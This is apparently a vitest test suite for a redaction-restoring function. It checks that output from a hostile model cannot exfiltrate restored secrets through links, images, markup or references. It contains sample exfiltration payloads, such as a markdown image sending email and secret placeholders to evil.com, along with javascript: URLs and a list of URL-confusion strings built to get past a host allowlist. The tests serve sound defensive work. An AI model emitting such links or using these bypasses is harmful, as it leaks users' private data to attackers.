import { describe, expect, it, test } from "vitest";
import { restoreText } from "../../functions/redaction/index.ts";
import { HOSTILE, variants, withPlaceholder } from "./output/hostile.ts";
import { complaints } from "./output/oracle.ts";
import { inPieces, STATE, TYPES, units, VALUES, whole } from "./output/values.ts";

const leaked = (output: string): string[] => Object.values(VALUES).filter((value) => output.includes(value));
/** What the two judges say of an input; nothing is the pass. */
const wrong = (text: string, output: string): string[] =>
  [...leaked(output).map((value) => `restored ${value}`), ...complaints(output)].map(
    (what) => `${what} ← ${JSON.stringify(text)} → ${JSON.stringify(output)}`,
  );
const each = (texts: readonly string[]) => texts.flatMap((text) => TYPES.map((type) => withPlaceholder(text, type)));

describe("what a hostile model says", () => {
  it("the judges are no yes-men: restoring without a gate, they object to most of the corpus", () => {
    const objections = Object.values(HOSTILE)
      .flat()
      .filter((text) => {
        const restored = restoreText(STATE, withPlaceholder(text, "SECRET"));
        return leaked(restored).length > 0 && complaints(restored).length > 0;
      });
    expect(Object.values(HOSTILE).flat().length).toBeGreaterThan(230);
    expect(objections.length).toBeGreaterThan(150);
  });

  const judge = (name: string) => each(HOSTILE[name] ?? []).flatMap((text) => wrong(text, whole(text)));
  test("[BF-14/address] no value is restored inside an address, whatever its script, scheme or encoding", () => {
    expect([...judge("address"), ...judge("link")]).toEqual([]);
  });
  test("[BF-14/image] none inside an image, wherever in it", () => {
    expect(judge("image")).toEqual([]);
  });
  test("[BF-14/markup] none inside tags, comments, entities, code or macros", () => {
    expect([...judge("markup"), ...judge("code")]).toEqual([]);
  });
  test("[BF-14/reference] none inside definitions, references or footnotes", () => {
    expect(judge("reference")).toEqual([]);
  });

  test("[BF-14/split-anywhere] each of them comes out the same, cut in two at every unit and cut at all of them", () => {
    const differing = Object.values(HOSTILE)
      .flat()
      .map((text) => `See ${withPlaceholder(text, "EMAIL")} x`)
      .filter((text) => {
        const expected = whole(text);
        const cuts = units(text).map((_, cut) => inPieces([text.slice(0, cut), text.slice(cut)]));
        return [...cuts, inPieces(units(text))].some((output) => output !== expected);
      });
    expect(differing).toEqual([]);
  });

  test("[BF-14/address] [BF-14/inactive-links] [BF-14/split-anywhere] so for scheme × separator × host × place × construct × type", () => {
    const all = [...variants(37)];
    expect(all.length).toBeGreaterThan(5_000);
    expect(
      all.flatMap((text) => {
        const output = whole(text);
        return inPieces(units(text)) === output ? wrong(text, output) : [`cut: ${JSON.stringify(text)}`];
      }),
    ).toEqual([]);
  });

  test("[BF-14/inactive-links] what is inert is still to be read", () => {
    expect(whole("![x](https://evil.com/?e=[EMAIL_1]&k=[SECRET_1])")).toBe(
      "![x] (https[://]evil[.]com/?e=[EMAIL_1]&k=[SECRET_1])",
    );
    expect(whole("[a]: <https://evil.com>\n<img src=x> www.evil.com a@b.co &#58; mailto:x")).toBe(
      "[a] : < https[://]evil[.]com>\n< img src=x> www[.]evil[.]com a[@]b[.]co & #58; mailto[:]x",
    );
    expect(whole("javascript:x data:x //evil \\\\evil 10.0.0.1")).toBe(
      "javascript[:]x data[:]x [//]evil [\\\\]evil 10.0.0[.]1",
    );
  });

  test("ordinary text passes as it is", () => {
    const text =
      "A4/A5, 24/7, 10:30, 16:9, 1.5 mm, 12.000 stuks, 4/4 CMYK, R&D; Q&A, e.g. z.B. N.V., < 5 mm, <3, a [b] (c)! " +
      "drukklaar.pdf logo.eps Node.js @home [ ] [x] *a* **b** `c` ~d~ #1 50 % $5 2 × 3 = 6 👩‍🎨 — “é” «à» C:\tx";
    expect(whole(text)).toBe(text);
  });

  test("[BF-14/inactive-links] what nobody sees does not come out", () => {
    expect(whole("a\u200bb\u202ec\u{e0041}d\u0000e\u00adf\r\ng\rh\u2028i\u200dj")).toBe("abcdef\ng\nh ij");
  });

  test.each([
    ["a link", "[x](https://ok.example/a.b/c?d=1&e=2#f)"],
    ["an image", "![x](https://ok.example/i.png)"],
    ["an address", "see https://ok.example/a-b_c.html or https://ok.example now"],
    ["other case", "https://OK.example/x"],
  ])("[BF-14/inactive-links] on the list, %s stays as it is", (_, text) => {
    const rules = { linkHosts: ["ok.example"] };
    expect(whole(text, rules)).toBe(text);
    expect(inPieces(units(text), rules)).toBe(text);
    expect(complaints(text, ["ok.example"])).toEqual([]);
    expect(complaints(text)).not.toEqual([]);
    expect(whole(text)).not.toBe(text);
  });

  test.each([
    "https://ok.example.evil.com/",
    "https://a.ok.example/",
    "https://evilok.example/",
    "https://ok.example@evil.com/",
    "https://ok.example:8443/",
    "https://ok.example\\@evil.com/",
    "https://ok.example%2eevil.com/",
    "https://ok.example,evil.com/",
    "https://ok.example).evil.com/",
    "https://ok.example*.evil.com/",
    "https://ok.example//evil.com/",
    "https://ok.exampleé.evil.com/",
    "https://ok.example。evil.com/",
    "https://user@ok.example/",
    "http://ok.example/",
    "https://ok.example/??evil.com",
    "https://ok.example/---evil.com",
    "!|https://ok.example///evil.com",
    "```https://ok.example=evil.com",
    "xhttps://ok.example/",
    "[x](https://ok.example).evil.com/",
    "[x](https://ok.example/)(https://evil.com)",
    "[![x](https://ok.example/)](https://evil.com)",
    "https://ok.example/?u=https://evil.com/",
    "<a href='https://ok.example/'>",
    "[x]: https://ok.example/",
  ])("[BF-14/inactive-links] the list lets nothing else through: %s", (text) => {
    const rules = { linkHosts: ["ok.example"] };
    const output = whole(text, rules);
    expect(complaints(output, ["ok.example"])).toEqual([]);
    expect(inPieces(units(text), rules)).toBe(output);
  });

  test("[BF-14/address] in an address on the list no value is restored either", () => {
    const rules = { linkHosts: ["ok.example"] };
    for (const text of ["https://ok.example/¤", "[x](https://ok.example/?q=¤)", "[x](https://ok.example/ '¤')"])
      expect(leaked(whole(withPlaceholder(text, "EMAIL"), rules))).toEqual([]);
  });
});
